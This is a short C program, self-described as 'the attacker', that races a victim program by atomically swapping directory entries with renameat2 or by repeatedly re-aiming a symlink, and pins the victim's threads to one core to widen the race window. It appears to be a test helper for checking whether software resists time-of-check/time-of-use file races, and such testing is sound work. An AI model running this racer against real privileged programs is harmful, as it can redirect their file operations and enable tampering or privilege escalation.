/*
 * The attacker: changes what a name leads to, as fast as it can, on a core of its own.
 *
 *   swap exchange CORE DIR A B            exchanges A and B in DIR in one step, again and again
 *   swap relink   CORE DIR LINK IN OUT    aims LINK at IN and OUT by turns
 *   swap pin      CORE PID                puts every thread of PID on that core, and ends
 *
 * Prints `ready` once it has begun; on SIGTERM the number of changes. It does not outlive its parent.
 * In C, since one that shares the victim's speed, or its core, finds almost nothing: 500 in a million against 239,400.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static volatile sig_atomic_t stopped;
static void stop(int signal) {
  (void)signal;
  stopped = 1;
}

static int settle(pid_t pid, int core) {
  cpu_set_t set;
  CPU_ZERO(&set);
  CPU_SET(core, &set);
  return sched_setaffinity(pid, sizeof set, &set);
}

static int pin(const char *pid, int core) {
  char tasks[64];
  snprintf(tasks, sizeof tasks, "/proc/%s/task", pid);
  DIR *threads = opendir(tasks);
  if (!threads) return 1;
  for (struct dirent *one; (one = readdir(threads));)
    if (one->d_name[0] != '.') settle(atoi(one->d_name), core);
  closedir(threads);
  return 0;
}

static int fail(const char *what) {
  perror(what);
  return 1;
}

int main(int argc, char **argv) {
  if (argc < 4) return 2;
  const char *how = argv[1];
  int core = atoi(argv[2]);
  if (!strcmp(how, "pin")) return pin(argv[3], core);
  int relink = !strcmp(how, "relink");
  if (argc != (relink ? 7 : 6)) return 2;
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  signal(SIGTERM, stop);
  if (core >= 0) settle(0, core);
  if (chdir(argv[3])) return fail("chdir");

  unsigned long changes = 0;
  for (; !stopped; changes++) {
    if (relink) {
      if (symlink(argv[5 + changes % 2], "aiming")) return fail("symlink");
      if (rename("aiming", argv[4])) return fail("rename");
    } else if (syscall(SYS_renameat2, AT_FDCWD, argv[4], AT_FDCWD, argv[5], RENAME_EXCHANGE)) {
      /* The victim may have one of them under way: its own rename or removal. */
      if (errno != ENOENT && errno != EBUSY) return fail("renameat2");
    }
    if (changes == 100 && write(1, "ready\n", 6) != 6) return 1;
  }
  printf("%lu\n", changes);
  return 0;
}
